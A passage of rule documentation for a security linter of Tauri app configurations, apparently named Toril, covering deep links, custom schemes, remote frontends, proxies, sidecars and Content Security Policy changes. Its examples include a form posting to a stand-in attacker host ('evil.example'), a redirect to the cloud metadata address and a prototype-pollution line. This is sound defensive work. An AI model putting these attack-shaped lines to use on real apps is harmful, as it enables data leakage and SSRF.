-    "security": {
-      "pattern": {
-        "use": "isolation",
-        "options": {
-          "dir": "../isolation"
-        }
-      }
-    }
+    "security": {}
   }
 }
\`\`\`

Any script in the app's pages can newly send messages to Rust that the isolation hook doesn't see:

\`\`\`
window.__TAURI_INTERNALS__.invoke('\u2026')
\`\`\`

### It says nothing when the default is written out

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "identifier": "org.example.notes",
   "app": {
-    "security": {}
+    "security": {
+      "pattern": {
+        "use": "brownfield"
+      }
+    }
   }
 }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the isolation pattern](https://v2.tauri.app/concept/inter-process-communication/isolation/)
- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
- [Tauri 1: the configuration](https://v1.tauri.app/v1/api/config)
`,"config/link-scheme-claimed":`# Links of websites open the app: \`config/link-scheme-claimed\`

Severity: medium; low for an app that is new.

Since: 0.1.0

\`plugins.deep-link\` names a scheme, or for mobile systems a scheme and a domain, that it didn't before.

## Why it matters

Any page in any browser can then start the app with a text of its choice, usually after one question to the person. Custom schemes belong to nobody: the next ap\
p that is installed may take over \`notes://login?code=\u2026\`.

## What to do

Check what the handler does with the link. For sign-in use an \`https\` link of a domain that is yours, with \`appLink\`.

## When it says nothing

- The list of schemes moves between the forms that the plugin reads.
- A path of a domain is added: a site's other pages can link to the paths that were there.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a scheme

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
 {
   "productName": "notes",
-  "identifier": "org.example.notes"
+  "identifier": "org.example.notes",
+  "plugins": {
+    "deep-link": {
+      "desktop": {
+        "schemes": [
+          "notes"
+        ]
+      }
+    }
+  }
 }
\`\`\`

Any website can newly open the app with a link that begins with \`notes://\` on Linux, macOS and Windows:

\`\`\`
location.href = 'notes://anything'
\`\`\`

### It says nothing when a default is written out and paths are narrowed

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
       "mobile": [
         {
-          "host": "notes.example"
+          "scheme": [
+            "https"
+          ],
+          "host": "notes.example",
+          "pathPrefix": [
+            "/open"
+          ]
         }
       ]
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: deep links](https://v2.tauri.app/plugin/deep-linking/)
- [Android: app links](https://developer.android.com/training/app-links)
`,"config/local-scheme-added":`# A scheme of the app's own counts as local: \`config/local-scheme-added\`

Severity: medium; low for an app that is new.

Since: 0.1.0

The app's code calls \`register_uri_scheme_protocol\` or \`register_asynchronous_uri_scheme_protocol\` for another scheme. A name that is computed counts as it is w\
ritten.

## Why it matters

Tauri takes every scheme that the app registers for local. If the handler answers with text that someone else wrote, that text is a page with the app's permissi\
ons.

## What to do

Look at what the handler answers with. Images and sound need no \`text/html\`.

## When it says nothing

- The call moves to another file, or stands in a comment or a text.
- A crate beside the app's \`src\` folder registers it. Toril doesn't follow that.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a scheme

\`src-tauri/src/lib.rs\`:

\`\`\`diff
 pub fn run() {
     tauri::Builder::default()
+        .register_uri_scheme_protocol("stream", |_app, request| answer(request))
         .run(tauri::generate_context!())
         .expect("the app runs");
\`\`\`

Pages that the app itself serves under \`stream:\` can newly call what is granted to the app's own pages:

\`\`\`
location.href = 'stream://localhost/'
\`\`\`

### It says nothing when the call moves

\`src-tauri/src/lib.rs\`:

\`\`\`diff
-pub fn run() {
-    tauri::Builder::default()
-        .register_uri_scheme_protocol("stream", |_app, request| answer(request))
-        .run(tauri::generate_context!())
-        .expect("the app runs");
-}
+mod setup;
\`\`\`

\`src-tauri/src/setup.rs\`:

\`\`\`diff
+const SCHEME: &str = "stream";
+pub fn run() {
+    tauri::Builder::default()
+        .register_asynchronous_uri_scheme_protocol(SCHEME, |_app, request| answer(request))
+        .run(tauri::generate_context!())
+        .expect("the app runs");
+}
\`\`\`

<!-- end examples -->

## References

- [docs.rs: \`tauri::Builder\`](https://docs.rs/tauri/latest/tauri/struct.Builder.html)
- [CVE-2026-42184: a website was taken for the app itself](https://github.com/advisories/GHSA-7gmj-67g7-phm9)
- [Tauri 2: runtime authority](https://v2.tauri.app/security/runtime-authority/)
`,"config/page-unguarded":`# A page does what no policy keeps from it: \`config/page-unguarded\`

Severity: high for a \`<base>\` of a website; medium for a frame with a website, for a policy that is gone, and for a document without one where the app has one; \
low for the rest and for an app that is new.

Since: 0.1.0

A page besides the front page has no \`<meta>\` with a Content Security Policy any more, a \`.htm\`, \`.xhtml\` or active \`.svg\` is new, or a page has another \`<base>\
\` or a frame with a website.

## Why it matters

Tauri sends its policy with \`.html\` alone. A drawing with a script, or a page with another ending, is a page of the app that may do everything that the policy f\
orbids. A \`<base>\` of a website lets that site deliver the scripts that the page names.

## What to do

Call pages \`.html\`, keep drawings free of scripts, and show websites in frames with a \`sandbox\`.

## When it says nothing

- The file moved, and its content is the same.
- A drawing only draws.
- A new page has no policy of its own.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a base of a website

\`public/help.html\`:

\`\`\`diff
 <!doctype html>
+<base href="https://example.com/">
 <script src="help.js"></script>
\`\`\`

The page \`help.html\` can newly take its scripts and pages from \`https://example.com/\`:

\`\`\`
location.href = "/help.html"
\`\`\`

### It says nothing about a drawing that only draws

\`public/logo.svg\`:

\`\`\`diff
+<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>
\`\`\`

<!-- end examples -->

## References

- [Tauri 1: the configuration](https://v1.tauri.app/v1/api/config)
- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
`,"config/plugin-setting-changed":`# A plugin has another setting: \`config/plugin-setting-changed\`

Severity: medium for keys that say that they open something or whom to trust, and for addresses without TLS; info for the rest; low for an app that is new.

Since: 0.1.0

A key below \`plugins\` that no other rule judges has a value that it had not.

## Why it matters

Plugins have switches of their own, and nothing checks how they are spelt. What they do is known to the plugin alone.

## What to do

Read in the plugin's documentation what the key does.

## When it says nothing

- The key is gone, or \`false\`.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a key that opens something

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "plugins": {
     "vault": {
-      "path": "a"
+      "path": "a",
+      "dangerousAllowAll": true
     }
   }
\`\`\`

A plugin can newly act by \`vault.dangerousAllowAll: true\`, which Toril doesn't know:

\`\`\`
plugins.vault.dangerousAllowAll
\`\`\`

### It says nothing when keys change places

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "plugins": {
     "vault": {
-      "path": "a",
-      "name": "b"
+      "name": "b",
+      "path": "a"
     }
   }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
- [Tauri 1: the configuration](https://v1.tauri.app/v1/api/config)
`,"config/prototype-unfrozen":`# Objects' common ancestor can be changed: \`config/prototype-unfrozen\`

Severity: low.

Since: 0.1.0

\`app.security.freezePrototype\` was on and no longer is.

## Why it matters

With it, \`Object.prototype\` is frozen before the first script of a page runs, so that no script can change what all objects inherit. It is defence in depth.

## What to do

Leave it on if nothing breaks.

## When it says nothing

- \`false\` is written out, which is the default.
- The app is new: it starts without, as Tauri does.
- The setting moves to another layer, or is spelt \`freeze-prototype\`.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a guard that is turned off

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "app": {
     "security": {
-      "freezePrototype": true
+      "freezePrototype": false
     }
   }
\`\`\`

Any script in the app's pages can newly change what all objects inherit, through \`Object.prototype\`:

\`\`\`
Object.prototype.toJSON = () => \u2026
\`\`\`

### It says nothing when the default is written out

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "identifier": "org.example.notes",
   "app": {
-    "security": {}
+    "security": {
+      "freezePrototype": false
+    }
   }
 }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
- [MDN: prototype pollution](https://developer.mozilla.org/en-US/docs/Web/Security/Attacks/Prototype_pollution)
- [CWE-1321: prototype pollution](https://cwe.mitre.org/data/definitions/1321.html)
`,"config/redirects-unscoped":`# Redirects leave the scope of requests: \`config/redirects-unscoped\`

Severity: medium.

Since: 0.1.0

\`plugins.http.scopeRedirects\` was \`true\` and no longer is, or the plugin went from a version that checks redirects to one that doesn't. It is there from 2.7 on;\
 from 3.0 on redirects are always checked.

## Why it matters

The http plugin sends requests from outside of the browser, where no rule of the web stops them. With the check each hop has to be in the scope of the app's cap\
abilities (CVE-2026-95623).

## What to do

Keep the setting on, and add hosts that are really redirected to, to the scope.

## When it says nothing

- The plugin is new: by default it follows redirects, and its arrival is reported by itself.
- \`false\` is written out, which is the default.
- No lockfile tells the version, and the setting is on.
- The app moves from Tauri 1, which follows redirects too.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a check that is turned off

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
 {
   "productName": "notes",
-  "identifier": "org.example.notes",
-  "plugins": {
-    "http": {
-      "scopeRedirects": true
-    }
-  }
+  "identifier": "org.example.notes"
 }
\`\`\`

A server that the app may call through the http plugin can newly send it on to any other URL:

\`\`\`
fetch('https://api.example.com/') \u2192 302 http://169.254.169.254/
\`\`\`

### It says nothing when the default is written out

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
 {
   "productName": "notes",
-  "identifier": "org.example.notes"
+  "identifier": "org.example.notes",
+  "plugins": {
+    "http": {
+      "scopeRedirects": false
+    }
+  }
 }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the http plugin](https://v2.tauri.app/plugin/http-client/)
- [Tauri 2: command scopes](https://v2.tauri.app/security/scope/)
- [CVE-2026-95623: redirects left the scope of the http plugin](https://osv.dev/vulnerability/CVE-2026-95623)
`,"config/remote-frontend":`# A website is the app: \`config/remote-frontend\`

Severity: critical; high for a server on the same machine; low for a scheme that the app answers itself.

Since: 0.1.0

\`build.frontendDist\` (in Tauri 1: \`build.distDir\`) is a URL whose origin it was not before.

## Why it matters

Tauri then takes the whole origin of that URL for local. The policy and the hashes that Tauri adds are for files in the app, so they are gone as well.

## What to do

Ship the pages with the app. To show a site, open it in a window of its own, without capabilities for it.

## When it says nothing

- It is a folder or a list of files, whichever.
- Another path of the same site.
- \`devUrl\`, which no release has.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a site as the frontend

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "identifier": "org.example.notes",
   "build": {
-    "frontendDist": "../dist"
+    "frontendDist": "https://app.example.com/notes"
   }
 }
\`\`\`

Pages of \`https://app.example.com\` can newly act as the app, with everything that is granted to its own pages:

\`\`\`
GET https://app.example.com/notes
\`\`\`

### It says nothing of another path of the site

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "identifier": "org.example.notes",
   "build": {
-    "frontendDist": "https://app.example.com"
+    "frontendDist": "https://app.example.com/v2"
   }
 }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
- [Tauri 2: capabilities](https://v2.tauri.app/security/capabilities/)
- [CVE-2023-31134: a website in a window reached the API of Tauri](https://github.com/advisories/GHSA-4wm2-cwcf-wwvp)
`,"config/remote-window":`# A window shows a website: \`config/remote-window\`

Severity: high; critical for plain \`http:\`; low for schemes that the app answers itself and for an app that is new.

Since: 0.1.0

A window of the configuration has a \`url\` at an origin that this window didn't show before.

## Why it matters

The app's Content Security Policy doesn't hold there. A capability whose \`remote.urls\` and window patterns match gives the site permissions, and with plain HTTP\
 anyone on the way is the site.

## What to do

Use the opener plugin for links. If the site has to be in the app, give its window a label that no capability matches.

## When it says nothing

- The origin is the one that \`frontendDist\` names, which is reported by itself.
- Another path of the same site in the same window.
- The window moves in the list, or into a platform's configuration that replaces it.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a site in a window

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     "windows": [
       {
-        "label": "main"
+        "label": "main",
+        "url": "https://app.example.com/start"
       }
     ]
\`\`\`

Pages of \`https://app.example.com\` can newly open in the app's window \`main\`:

\`\`\`
GET https://app.example.com/start
\`\`\`

### It says nothing of another path of the site

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
       {
         "label": "main",
-        "url": "https://app.example.com"
+        "url": "https://app.example.com/start"
       }
     ]
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
- [Tauri 2: capabilities](https://v2.tauri.app/security/capabilities/)
- [CVE-2023-31134: a website in a window reached the API of Tauri](https://github.com/advisories/GHSA-4wm2-cwcf-wwvp)
`,"config/scope-opened-by-code":`# Code adds paths to a scope: \`config/scope-opened-by-code\`

Severity: medium for folders; low for files and for an app that is new.

Since: 0.1.0

The app's code calls \`allow_directory\` or \`allow_file\` of \`fs_scope()\`, \`asset_protocol_scope()\` or \`tauri::scope::Scopes\` with another path, in any spelling th\
at Rust has for it; or it no longer calls \`forbid_directory\` or \`forbid_file\`. Paths that are computed count as one for each method.

## Why it matters

Scopes in capabilities can be read in review. What code adds while the app runs can't, and it holds for every window with a permission of the fs plugin, or for \
every page where it is the asset protocol's.

## What to do

Prefer the dialog plugin, which adds what a person picked. Look at where the path comes from: text of a page must not reach it.

## When it says nothing

- The call moves to another file, or stands in a comment or a text.
- A second computed path for a method that had one. Look at such calls yourself.
- The call stands in code of tests, or of a build with a feature or with assertions, and stood in every build before.
- \`allow_directory(path, true)\` becomes \`allow_directory(path, false)\`, which is narrower.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a folder

\`src-tauri/src/lib.rs\`:

\`\`\`diff

 pub fn open(app: &tauri::AppHandle, path: &std::path::Path) {
-
+    app.fs_scope().allow_directory("/home", true).unwrap();
 }
\`\`\`

Every page with permissions of the fs plugin can newly reach everything in \`/home\`:

\`\`\`
readTextFile('/home/a/b.txt')
\`\`\`

### It says nothing of a narrower call

\`src-tauri/src/lib.rs\`:

\`\`\`diff

 pub fn open(app: &tauri::AppHandle, path: &std::path::Path) {
-    app.fs_scope().allow_directory("/srv", true).unwrap();
+    let scope = app.fs_scope();
+    scope.allow_directory("/srv", false).unwrap();
 }
\`\`\`

<!-- end examples -->

## References

- [docs.rs: \`tauri::scope::fs::Scope\`](https://docs.rs/tauri/latest/tauri/scope/fs/struct.Scope.html)
- [Tauri 2: the asset protocol](https://v2.tauri.app/security/asset-protocol/)
- [Tauri 2: command scopes](https://v2.tauri.app/security/scope/)
`,"config/scopes-persisted":`# What a person allowed once stays allowed: \`config/scopes-persisted\`

Severity: medium; low for an app that is new.

Since: 0.1.0

The crate \`tauri-plugin-persisted-scope\` joined the app.

## Why it matters

Picks in a dialog and drops on a window extend the scopes of the fs plugin and of the asset protocol. The plugin writes them to a file and allows them again at \
each start.

## What to do

Use it only if the app reopens files by itself, and offer a way to forget them.

## When it says nothing

- The plugin changes its version.
- It moves between Cargo.toml and the workspace's.
- Another app of the same lockfile has it.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags the plugin

\`src-tauri/Cargo.lock\`:

\`\`\`diff

 [[package]]
+name = "tauri-plugin-persisted-scope"
+version = "2.3.0"
+source = "registry+https://github.com/rust-lang/crates.io-index"
+checksum = "0000000000000000000000000000000000000000000000000000000000000000"
+
+[[package]]
 name = "notes"
 version = "0.1.0"
 dependencies = [
  "tauri",
+ "tauri-plugin-persisted-scope",
 ]
\`\`\`

\`src-tauri/Cargo.toml\`:

\`\`\`diff
 [dependencies]
 tauri = "2"
+tauri-plugin-persisted-scope = "2.3.0"
\`\`\`

Every page with permissions of the fs plugin or the asset protocol can newly reach a file again after a restart, once a person has picked or dropped it:

\`\`\`
readTextFile('/home/user/picked-last-year.txt')
\`\`\`

### It says nothing of another version

\`src-tauri/Cargo.lock\`:

\`\`\`diff
 [[package]]
 name = "tauri-plugin-persisted-scope"
-version = "2.3.0"
+version = "2.3.1"
 source = "registry+https://github.com/rust-lang/crates.io-index"
 checksum = "0000000000000000000000000000000000000000000000000000000000000000"
\`\`\`

\`src-tauri/Cargo.toml\`:

\`\`\`diff
 [dependencies]
 tauri = "2"
-tauri-plugin-persisted-scope = "2.3.0"
+tauri-plugin-persisted-scope = "2.3.1"
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: persisted scopes](https://v2.tauri.app/plugin/persisted-scope/)
- [Tauri 2: command scopes](https://v2.tauri.app/security/scope/)
- [Tauri 2: the fs plugin](https://v2.tauri.app/plugin/file-system/)
`,"config/served-on-localhost":`# The app is served over HTTP: \`config/served-on-localhost\`

Severity: high; low for an app that is new.

Since: 0.1.0

The crate \`tauri-plugin-localhost\` joined the app.

## Why it matters

It serves the frontend at \`http://localhost:<port>\`. For Tauri that is a remote origin, so the app has to grant permissions to that URL, and any program that li\
stens on the port gets them.

## What to do

Remove the plugin. If a library needs HTTP, look for what it needs it for.

## When it says nothing

- The plugin changes its version.
- Only a table for other systems has it.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags the plugin

\`src-tauri/Cargo.lock\`:

\`\`\`diff

 [[package]]
+name = "tauri-plugin-localhost"
+version = "2.3.0"
+source = "registry+https://github.com/rust-lang/crates.io-index"
+checksum = "0000000000000000000000000000000000000000000000000000000000000000"
+
+[[package]]
 name = "notes"
 version = "0.1.0"
 dependencies = [
  "tauri",
+ "tauri-plugin-localhost",
 ]
\`\`\`

\`src-tauri/Cargo.toml\`:

\`\`\`diff
 [dependencies]
 tauri = "2"
+tauri-plugin-localhost = "2.3.0"
\`\`\`

Every program and user of the machine can newly load the app's pages over HTTP:

\`\`\`
curl http://localhost:9527/
\`\`\`

### It says nothing of another version

\`src-tauri/Cargo.lock\`:

\`\`\`diff
 [[package]]
 name = "tauri-plugin-localhost"
-version = "2.3.0"
+version = "2.3.1"
 source = "registry+https://github.com/rust-lang/crates.io-index"
 checksum = "0000000000000000000000000000000000000000000000000000000000000000"
\`\`\`

\`src-tauri/Cargo.toml\`:

\`\`\`diff
 [dependencies]
 tauri = "2"
-tauri-plugin-localhost = "2.3.0"
+tauri-plugin-localhost = "2.3.1"
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the localhost plugin](https://v2.tauri.app/plugin/localhost/)
- [Tauri 2: capabilities](https://v2.tauri.app/security/capabilities/)
`,"config/sidecar-added":`# Another program is shipped with the app: \`config/sidecar-added\`

Severity: high; low for an app that is new.

Since: 0.1.0

\`bundle.externalBin\` (in Tauri 1: \`tauri.bundle.externalBin\`) has a path that it had not.

## Why it matters

A sidecar is a native program that is trusted like the app. A scope entry with \`sidecar: true\` lets pages start it with arguments.

## What to do

Build it from source or pin a hash in the script that fetches it. Toril doesn't look into the file.

## When it says nothing

- The path is written with \`./\` in front or with backslashes.
- The app moves from Tauri 1 to 2 with the program.
- The program's file changes under the same path.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a sidecar

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "bundle": {
     "externalBin": [
-      "binaries/ffmpeg"
+      "binaries/ffmpeg",
+      "binaries/curl"
     ]
   }
\`\`\`

The app can newly ship and start the program \`binaries/curl\`:

\`\`\`
Command.sidecar("binaries/curl")
\`\`\`

### It says nothing when a path is spelt differently

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "bundle": {
     "externalBin": [
-      "binaries/ffmpeg"
+      "./binaries\\\\ffmpeg"
     ]
   }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: sidecars](https://v2.tauri.app/develop/sidecar/)
- [Tauri 2: the shell plugin](https://v2.tauri.app/plugin/shell/)
`,"config/surface-grown":`# The app takes or does a little more: \`config/surface-grown\`

Severity: low; info for names and for the bus of the session.

Since: 0.1.0

A switch such as \`macOSPrivateApi\` is on, the command line has another argument, or windows share their data.

## Why it matters

None of these opens the app by itself. They are what other holes are used with.

## What to do

Leave off what the app does not need.

## When it says nothing

- A switch is written out as its default.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags an argument

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "plugins": {
     "cli": {
-      "args": []
+      "args": [
+        {
+          "name": "script",
+          "takesValue": true
+        }
+      ]
     }
   }
\`\`\`

Whoever starts the app can newly hand it \`--script\`:

\`\`\`
notes --script
\`\`\`

### It says nothing about a default

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
   "productName": "notes",
   "identifier": "org.example.notes",
-  "app": {}
+  "app": {
+    "macOSPrivateApi": false
+  }
 }
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
- [Tauri 1: the configuration](https://v1.tauri.app/v1/api/config)
`,"config/traffic-proxied":`# A window's traffic goes through a proxy: \`config/traffic-proxied\`

Severity: high; medium for a proxy on the same machine; low for an app that is new.

Since: 0.1.0

\`proxyUrl\` of a window names a host that it did not.

## Why it matters

Everything that the pages of the window load and send goes there first, on every machine that the app is installed on.

## What to do

Let the system's settings decide. For one request use the proxy of the http plugin.

## When it says nothing

- On Windows a window that sets \`additionalBrowserArgs\`, which puts the proxy out of force.
- The window or the setting moves to another layer.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a proxy

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     "windows": [
       {
-        "label": "main"
+        "label": "main",
+        "proxyUrl": "http://proxy.example:8080"
       }
     ]
\`\`\`

A proxy at \`http://proxy.example:8080\` can newly carry what window \`main\` loads and sends:

\`\`\`
CONNECT example.com:443 via http://proxy.example:8080
\`\`\`

### It says nothing when windows change their order

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     "windows": [
       {
-        "label": "main",
-        "proxyUrl": "http://proxy.example:8080"
+        "label": "side"
       },
       {
-        "label": "side"
+        "label": "main",
+        "proxyUrl": "http://proxy.example:8080/"
       }
     ]
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
- [MDN: proxy servers and tunneling](https://developer.mozilla.org/en-US/docs/Web/HTTP/Guides/Proxy_servers_and_tunneling)
`,"config/window-added":`# The app has another window: \`config/window-added\`

Severity: low.

Since: 0.1.0

\`app.windows\` (in Tauri 1: \`tauri.windows\`) has a window with another label, whether it is created at the start or later.

## Why it matters

A pattern such as \`settings-*\` or \`*\` in a capability grants to windows that come later, and nothing in the capability shows it.

## What to do

Give the window a name that only the capabilities meant for it match.

## When it says nothing

- Windows that code opens; what capabilities may grant them is compared by the \`ipc/\` rules.
- A window moves in the list, or into a platform's configuration.
- \`main\` is written out, which is the label of a window without one.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags another window

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
       {
         "label": "main"
+      },
+      {
+        "label": "settings",
+        "create": false
       }
     ]
\`\`\`

A window \`settings\` can newly open with whatever capabilities grant to that name:

\`\`\`
getCurrentWindow().label === "settings"
\`\`\`

### It says nothing when windows change their order

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     "windows": [
       {
-        "label": "main"
+        "label": "settings"
       },
       {
-        "label": "settings"
+        "title": "Notes"
       }
     ]
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
- [Tauri 2: capabilities for windows and platforms](https://v2.tauri.app/learn/security/capabilities-for-windows-and-platforms/)
- [Tauri 2: the process model](https://v2.tauri.app/concept/process-model/)
`,"config/window-disguised":`# A window with a website hides what it is: \`config/window-disguised\`

Severity: medium where nobody sees it; low for other looks; low for an app that is new.

Since: 0.1.0

A window with a \`url\` of a website is hidden, has no frame, is transparent, above all others or on the whole screen.

## Why it matters

A website in a window without a frame can look like any dialog of the system. One that nobody sees can work for as long as the app runs.

## What to do

Show websites in windows that look like windows, or in the browser.

## When it says nothing

- The window shows the app's own pages.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a hidden website

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
       {
         "label": "sync",
-        "url": "https://example.com"
+        "url": "https://example.com",
+        "visible": false
       }
     ]
\`\`\`

The window \`sync\` can newly show a website that nobody sees:

\`\`\`
new WebviewWindow("sync", { visible: false })
\`\`\`

### It says nothing about a page of the app

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     "windows": [
       {
-        "label": "splash"
+        "label": "splash",
+        "decorations": false
       }
     ]
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
- [Tauri 1: the configuration](https://v1.tauri.app/v1/api/config)
`,"config/window-guard-removed":`# A window has lost a guard: \`config/window-guard-removed\`

Severity: medium for scripts on a website, for navigation on iOS and for \`dangerousUseHttpScheme\` of Tauri 1; low for the rest.

Since: 0.1.0

A window no longer has \`javascriptDisabled\`, \`limitNavigationsToAppBoundDomains\`, \`contentProtected\`, \`incognito\` or \`useHttpsScheme\`.

## Why it matters

Each of these keeps something from happening whatever the page does.

## What to do

Keep the guard, or say why the window can do without.

## When it says nothing

- The window is new.
- A guard that is off by default is written out as \`false\`.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags scripts on a website

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
       {
         "label": "help",
-        "url": "https://example.com",
-        "javascriptDisabled": true
+        "url": "https://example.com"
       }
     ]
\`\`\`

The window \`help\` can newly run scripts:

\`\`\`
new WebviewWindow("help")
\`\`\`

### It says nothing about a new window

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
       {
         "label": "main"
+      },
+      {
+        "label": "side",
+        "incognito": false
       }
     ]
\`\`\`

<!-- end examples -->

## References

- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)
- [Tauri 1: the configuration](https://v1.tauri.app/v1/api/config)
`,"csp/connection-allowed":`# Data may be sent to and fetched from somewhere new: \`csp/connection-allowed\`

Severity: medium for any host; low for a named host; info for protocols of the app and for \`data:\` and \`blob:\`.

Since: 0.1.0

A page may \`fetch\`, open a WebSocket or send a beacon to where it could not.

## Why it matters

This is the shortest way out for whatever a script in the page can read. It is not the only one: no policy stops a page from navigating.

## What to do

Ask which feature talks to that host, and name the host with its scheme. \`https:\` does not stand for \`wss:\`, and \`*\` stands for both.

## When it says nothing

- A host that an existing pattern covered.
- Without \`ipc:\` Tauri sends its messages another way, so adding it is said with severity info.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags a new host

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     ],
     "security": {
-      "csp": "default-src 'self'; connect-src 'self' ipc: http://ipc.localhost"
+      "csp": "default-src 'self'; connect-src 'self' ipc: http://ipc.localhost https://stats.example.net"
     }
   }
\`\`\`

Pages of the app may newly send data to and fetch data from \`stats.example.net\`:

\`\`\`
fetch("https://stats.example.net/x.json")
\`\`\`

### It says nothing when a pattern covered the host

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     ],
     "security": {
-      "csp": "default-src 'self'; connect-src https://*.harbour.example"
+      "csp": "default-src 'self'; connect-src https://*.harbour.example https://api.harbour.example"
     }
   }
\`\`\`

<!-- end examples -->

## References

- [MDN: \`connect-src\`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/connect-src)
- [Tauri 2: Content Security Policy](https://v2.tauri.app/security/csp/)
- [W3C: Content Security Policy Level 3](https://www.w3.org/TR/CSP3/)
`,"csp/document-guard-removed":`# A guard of the document is gone: \`csp/document-guard-removed\`

Severity: medium for forms, \`<base>\`, the sandbox, Trusted Types and unencrypted requests; low where one host or one name was added; info for framing.

Since: 0.1.0

A directive that guards the page itself is weaker or gone: \`form-action\`, \`base-uri\`, \`frame-ancestors\`, \`sandbox\`, \`require-trusted-types-for\`, \`trusted-types\`\
, \`upgrade-insecure-requests\`.

## Why it matters

None of them falls back to \`default-src\`: where one is absent there is no limit, whatever else the policy says.

## What to do

Keep the directive. If a form or a frame needs more, name the one host.

## When it says nothing

- A directive that no engine knows, such as \`navigate-to\`.

## Examples

<!-- begin examples: made from cases.md by \`npm run generate\` -->
### It flags forms that may go anywhere

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     ],
     "security": {
-      "csp": "default-src 'self'; form-action 'self'; base-uri 'self'"
+      "csp": "default-src 'self'; base-uri 'self'"
     }
   }
\`\`\`

Pages of the app may newly submit forms to any host:

\`\`\`
<form action="https://evil.example/x.html">
\`\`\`

### It says nothing when a dead directive goes

\`src-tauri/tauri.conf.json\`:

\`\`\`diff
     ],
     "security": {
-      "csp": "default-src 'self'; navigate-to 'none'; block-all-mixed-content"
+      "csp": "default-src 'self'"
     }
   }
\`\`\`

<!-- end examples -->

## References

- [MDN: \`form-action\`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/form-action)
- [MDN: \`base-uri\`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/base-uri)
- [MDN: \`require-trusted-types-for\`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/require-trusted-types-for)
- [W3C: Trusted Types](https://www.w3.org/TR/trusted-types/)
`,"csp/eval-allowed":`# Strings may be turned into code: \`csp/eval-allowed\`

Severity: medium for \`eval\`; low for WebAssembly alone.

Since: 0.1.0

\`'unsafe-eval'\` or \`'wasm-unsafe-eval'\` takes effect.

## Why it matters

With \`eval\` a string becomes a script without an element that a policy could stop. It is asked of \`script-src\` alone, so it also comes alive when \`script-src\` i\
s gone and \`default-src\` has it.

## What to do

Most libraries that ask for it have a build that doesn't (\`vue\` without the compiler, \`ajv\` with standalone code). For WebAssembly \`'wasm-unsafe-eval'\` is enoug\
h.

## When it says nothing

